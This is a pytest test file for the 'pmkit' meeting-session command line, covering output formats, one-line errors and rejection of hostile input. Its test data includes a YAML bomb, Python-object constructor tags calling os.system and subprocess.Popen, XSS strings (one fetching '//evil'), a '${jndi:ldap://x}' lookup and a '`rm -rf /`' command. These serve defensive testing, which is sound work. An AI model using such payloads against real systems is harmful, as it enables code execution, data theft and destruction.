"""The `pmkit` command line: output shapes, and bad input of every kind getting one short
line on stderr, exit code 2, no traceback and nothing written. Most run through the entry
point in this process (``run_cli``); the tests marked ``slow`` run the real command in a
subprocess, as a user does."""

from __future__ import annotations

import json
import random
import subprocess
from pathlib import Path

import pytest
import yaml

from pmkit.formats.yaml_file import MAX_DEPTH
from pmkit.model import FACILITATOR
from pmkit.resources import starter_names, starter_path
from pmkit.store import Workspace
from tests.support.cli import fails, imported, ok, run_cli, state
from tests.support.starters import starter


# -- the real process -----------------------------------------------------------------------
@pytest.mark.slow
def test_the_real_command_imports_shows_and_refuses_bad_input_in_one_line(tmp_path: Path) -> None:
    r = run_cli("import", str(starter_path("budget-overrun")), process=True)
    assert r.returncode == 0 and r.stderr == "", r.stderr
    sid = r.stdout.split()[-1]
    r = run_cli("show", sid, "--as", "customer", process=True)
    assert r.returncode == 0 and "alignment" in r.stdout
    bad = tmp_path / "bad.yaml"
    bad.write_text("title: [unclosed\n")
    r = run_cli("import", str(bad), process=True)
    assert r.returncode == 2 and r.stdout == ""
    assert r.stderr.count("\n") == 1 and r.stderr.startswith("pmkit: error: ") and "Traceback" not in r.stderr


# -- every verb ---------------------------------------------------------------------------
def test_templates_one_per_line_name_first() -> None:
    lines = ok("templates")
    assert [line.split("\t")[0] for line in lines] == starter_names()
    for line in lines:
        name, title = line.split("\t")
        assert title == starter(name).title


def test_new_prints_the_id_last(_isolated_workspace: Path) -> None:
    sid = ok("new", "Steering call")[-1].split()[-1]
    from_starter = ok("new", "Q3 review", "--template", "budget-overrun")[-1].split()[-1]
    with Workspace(_isolated_workspace) as ws:
        assert ws.sessions.load(sid, FACILITATOR).title == "Steering call"
        s = ws.sessions.load(from_starter, FACILITATOR)
    assert s.title == "Q3 review"
    assert s.goals == starter("budget-overrun").goals
    assert "no starter 'nope'" in fails("new", "X", "--template", "nope")
    assert "title" in fails("new", "   ")


def test_import_list_and_list_json(_isolated_workspace: Path) -> None:
    a = imported("budget-overrun")
    b = imported("scope-vs-deadline")
    lines = ok("list")
    assert [line.split("\t")[0] for line in lines] == [a, b]
    for line in lines:
        sid, version, updated, title = line.split("\t")
        assert version == "1" and updated.endswith("+00:00")
    records = [json.loads(line) for line in ok("list", "--json")]
    assert [r["id"] for r in records] == [a, b]
    assert records[1]["title"] == starter("scope-vs-deadline").title
    assert set(records[0]) == {"id", "title", "version", "created_at", "updated_at"}


def test_show_summary_and_json() -> None:
    sid = imported()
    lines = ok("show", sid)
    text = "\n".join(lines)
    assert lines[0] == starter("undisclosed-risk").title
    for heading in ("alignment ", "quadrants ", "conflicts ", "blind spots ", "issues ", "actions "):
        assert any(line.startswith(heading) for line in lines), heading
    assert "Integration vendor is six weeks late" in text  # the facilitator sees everything
    (record,) = [json.loads(line) for line in ok("show", sid, "--as", "customer", "--json")]
    assert record["role"] == "customer" and record["session"] == sid
    analysis = record["analysis"]
    assert 0 <= analysis["alignment"] <= 100
    assert {p["goal_id"] for p in analysis["points"]} >= {"test-env"}
    assert "vendor-slip" not in {p["goal_id"] for p in analysis["points"]}
    ok("show", sid, "--weight", "1")
    assert "outside" in fails("show", sid, "--weight", "2")


def test_export_stdout_and_to_a_file(tmp_path: Path) -> None:
    sid = imported()
    text = run_cli("export", sid, "--format", "yaml").stdout
    assert yaml.safe_load(text)["title"] == starter("undisclosed-risk").title
    target = tmp_path / "out.yaml"
    lines = ok("export", sid, "--format", "yaml", "-o", str(target))
    assert lines[-1] == f"wrote {target}"
    assert target.read_text() == text
    assert ok("export", sid, "--as", "customer") != text.splitlines()
    assert "no such folder" in fails("export", sid, "-o", str(tmp_path / "missing" / "x.yaml"))


def test_check_valid_and_invalid(tmp_path: Path) -> None:
    (line,) = ok("check", str(starter_path("undisclosed-risk")))
    assert line.startswith("ok ") and "9 goals" in line
    bad = tmp_path / "two.yaml"
    bad.write_text("title: t\ngoals:\n- {title: a, raised_by: x}\n- {title: b, raised_by: y}\n")
    r = run_cli("check", str(bad))
    assert r.returncode == 2 and "Traceback" not in r.stderr
    problems = r.stderr.splitlines()  # check lists every problem, one per line
    assert len(problems) == 2
    assert all(p.startswith(f"pmkit: error: {bad}: goals[") for p in problems)


def test_schema_is_json_schema_of_the_session() -> None:
    r = run_cli("schema")
    assert r.returncode == 0
    schema = json.loads(r.stdout)
    assert schema["title"] == "Session"
    assert {"Goal", "NumericIssue", "Rating", "Position"} <= set(schema["$defs"])
    assert schema["required"] == ["title"]


def test_history_and_undo(_isolated_workspace: Path) -> None:
    sid = imported()
    with Workspace(_isolated_workspace, actor="robin") as ws:
        ws.items.set_rating(sid, "training-plan", "management", 2, "oppose", role=FACILITATOR)
        ws.items.update(sid, "goal", "vendor-slip", {"description": "eight weeks"}, role=FACILITATOR)
    lines = ok("history", sid)
    assert len(lines) == 3
    fields = lines[1].split("\t")
    assert len(fields) == 7
    seq, version, _at, actor, role, op, what = fields
    assert (version, actor, role, op) == ("2", "robin", FACILITATOR, "update")
    assert what.startswith("goal 'Train super-users")
    entries = [json.loads(line) for line in ok("history", sid, "--json")]
    assert [e["op"] for e in entries] == ["import", "update", "update"]
    assert len(ok("history", sid, "--as", "customer")) == 2  # not the management goal
    assert len(ok("history", sid, "--limit", "1")) == 1

    (line,) = ok("undo", sid)
    assert line.startswith(f"undone #{entries[2]['seq']} update goal 'Integration vendor")
    ok("undo", sid)
    assert "nothing to undo" in fails("undo", sid)
    with Workspace(_isolated_workspace) as ws:
        assert ws.sessions.load(sid, FACILITATOR) == starter("undisclosed-risk")


def test_settings_name_value_env_help(_isolated_workspace: Path) -> None:
    rows = [line.split("\t") for line in ok("settings")]
    assert all(len(r) == 4 for r in rows)
    by_name = {r[0]: r for r in rows}
    assert by_name["workspace"][1:3] == [str(_isolated_workspace), "PMKIT_WORKSPACE"]
    r = run_cli("settings", env={"PMKIT_PORT": "9000"})
    assert "port\t9000\tPMKIT_PORT\t" in r.stdout


@pytest.mark.slow
def test_the_default_workspace_is_in_the_users_data_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PMKIT_WORKSPACE")
    monkeypatch.delenv("XDG_DATA_HOME", raising=False)
    r = run_cli("settings", env={"HOME": str(tmp_path)}, process=True)  # the default is read at start
    assert f"workspace\t{tmp_path}/.local/share/pmkit\tPMKIT_WORKSPACE\t" in r.stdout
    r = run_cli("settings", env={"XDG_DATA_HOME": "/srv/data"}, process=True)
    assert "workspace\t/srv/data/pmkit\tPMKIT_WORKSPACE\t" in r.stdout


def test_workspace_option_overrides_the_environment(tmp_path: Path, _isolated_workspace: Path) -> None:
    other = tmp_path / "other"
    ok("--workspace", str(other), "import", str(starter_path("budget-overrun")))
    assert len(state(other)) == 1
    assert state(_isolated_workspace) == []


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["show", "no-such-session"], "no session 'no-such-session'"),
        (["export", "no-such-session"], "no session 'no-such-session'"),
        (["history", "no-such-session"], "no session"),
        (["undo", "no-such-session"], "no session"),
        (["show", "{sid}", "--as", "board"], "unknown role 'board'"),
        (["export", "{sid}", "--as", "joint"], "unknown role 'joint'"),
        (["export", "{sid}", "--format", "docx"], "invalid choice"),
        (["frobnicate"], "invalid choice"),
        (["show"], "required"),
        (["import", "/no/such/file.yaml"], "no such file"),
        (["check", "/"], "is a folder"),
    ],
)
def test_errors_are_one_line_and_exit_2(args: list[str], fragment: str) -> None:
    sid = imported()
    message = fails(*[a.replace("{sid}", sid) for a in args])
    assert fragment in message


def test_a_damaged_workspace_is_one_line_naming_the_file(_isolated_workspace: Path) -> None:
    _isolated_workspace.mkdir(parents=True)
    damaged = _isolated_workspace / "workspace.sqlite"
    damaged.write_bytes(random.Random(3).randbytes(8192))
    for args in (["list"], ["import", str(starter_path("budget-overrun"))], ["show", "x"]):
        assert str(damaged) in fails(*args)
    assert damaged.read_bytes() == random.Random(3).randbytes(8192)


def test_no_command_prints_help_and_exits_2() -> None:
    r = run_cli()
    assert r.returncode == 2
    assert "COMMAND" in r.stdout


def test_terminal_control_characters_are_not_printed_raw(tmp_path: Path) -> None:
    f = tmp_path / "esc.yaml"
    f.write_text('title: "Budget \\e[31mRED\\e[0m \\a review"\n')
    sid = ok("import", str(f))[-1].split()[-1]
    lines = ok("show", sid)
    assert "\x1b" not in "\n".join(lines) and "\x07" not in "\n".join(lines)
    assert lines[0] == "Budget ?[31mRED?[0m ? review"
    # stored as it was: the YAML export gives back the same characters
    assert yaml.safe_load(run_cli("export", sid).stdout)["title"] == "Budget \x1b[31mRED\x1b[0m \x07 review"


# -- hostile input to import and check ----------------------------------------------------
def billion_laughs() -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for n in range(1, 10):
        refs = ",".join([f"*a{n - 1}"] * 10)
        lines.append(f"a{n}: &a{n} [{refs}]")
    lines.append("title: *a9")
    return "\n".join(lines) + "\n"


HOSTILE: dict[str, tuple[bytes, str]] = {
    "garbage-bytes": (random.Random(7).randbytes(20_000), "not UTF-8"),
    "garbage-text": (b"}{ ::: [[ ]] ,,, @@@\n\t- - -\n", "not valid YAML"),
    "binary-zeros": (b"\x00" * 512, "NUL byte"),
    "wrong-schema": (b"title: Budget review\ngoals: {first: 1}\n", "goals"),
    "wrong-type": (b"- title: a list, not a session\n", "must be a mapping"),
    "unknown-field": (b"title: t\nowner: me\n", "unknown field 'owner'"),
    "empty": (b"", "empty"),
    "whitespace": (b"   \n\n  \n", "empty"),
    "huge-title": (b"title: " + b"x" * (5 * 1024 * 1024) + b"\n", "larger than"),
    "long-title": (b"title: " + b"x" * 100_000 + b"\n", "at most 300 characters"),
    "deeply-nested": (b"title: t\nx: " + b"[" * 200_000 + b"]" * 200_000 + b"\n", "nesting deeper"),
    "deeply-nested-blocks": (
        b"title: t\n" + b"".join(b"  " * i + b"k:\n" for i in range(MAX_DEPTH * 2)),
        "nesting deeper",
    ),
    "yaml-bomb": (billion_laughs().encode(), "anchors and aliases"),
    "python-tag": (b"title: !!python/object/apply:os.system ['touch {marker}']\n", "constructor"),
    "python-module": (b"title: !!python/object/new:subprocess.Popen [['touch', '{marker}']]\n", "constructor"),
    "html-page": (b"<html><body><script>alert(1)</script></body></html>\n", "must be a mapping"),
    "two-documents": (b"title: a\n---\ntitle: b\n", "2 YAML documents"),
    "bad-date": (b"title: t\ndate: 2026-02-30\n", "day is out of range"),
}


@pytest.mark.parametrize("verb", ["import", "check"])
@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_input_gets_a_short_error_and_writes_nothing(
    tmp_path: Path, _isolated_workspace: Path, verb: str, case: str
) -> None:
    with Workspace(_isolated_workspace) as ws:  # a workspace with something in it
        before_sid = ws.sessions.import_file(starter_path("budget-overrun"))
    before = state(_isolated_workspace)
    marker = tmp_path / "code-ran"
    content, fragment = HOSTILE[case]
    path = tmp_path / f"{case}.yaml"
    path.write_bytes(content.replace(b"{marker}", str(marker).encode()))
    message = fails(verb, str(path))
    assert str(path) in message  # says where
    assert fragment in message
    assert not marker.exists()  # no input runs code
    assert state(_isolated_workspace) == before
    assert before[0][0] == before_sid
    assert not (_isolated_workspace / "exports").exists()


def test_markup_in_a_valid_file_is_stored_and_shown_as_plain_text(tmp_path: Path, _isolated_workspace: Path) -> None:
    script = "<script>alert(document.cookie)</script>"
    img = "<img src=x onerror=\"fetch('//evil')\">"
    path = tmp_path / "markup.yaml"
    path.write_text(
        yaml.safe_dump(
            {
                "title": f"Review {script}",
                "description": "{{ 7*7 }} ${jndi:ldap://x} {% raw %}",
                "goals": [{"title": img, "raised_by": "customer", "ratings": {"customer": {"importance": 4}}}],
                "notes": [{"text": "`rm -rf /` $(touch /tmp/x) & <b>bold</b>"}],
            }
        )
    )
    (line,) = ok("check", str(path))
    assert line.startswith("ok ")
    sid = ok("import", str(path))[-1].split()[-1]
    with Workspace(_isolated_workspace) as ws:
        s = ws.sessions.load(sid, FACILITATOR)
    assert s.title == f"Review {script}"
    assert s.description == "{{ 7*7 }} ${jndi:ldap://x} {% raw %}"
    assert s.goals[0].title == img
    assert s.notes[0].text == "`rm -rf /` $(touch /tmp/x) & <b>bold</b>"
    shown = "\n".join(ok("show", sid))
    assert f"Review {script}" in shown and img in shown and "&lt;" not in shown
    exported = yaml.safe_load(run_cli("export", sid).stdout)
    assert exported["title"] == f"Review {script}" and exported["goals"][0]["title"] == img


@pytest.mark.slow
def test_the_command_runs_as_a_console_script() -> None:
    import shutil
    import sys

    exe = Path(sys.executable).with_name("pmkit")
    assert exe.exists() or shutil.which("pmkit"), "the pmkit console script is installed"
    r = subprocess.run([str(exe), "--version"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and r.stdout.startswith("pmkit ")
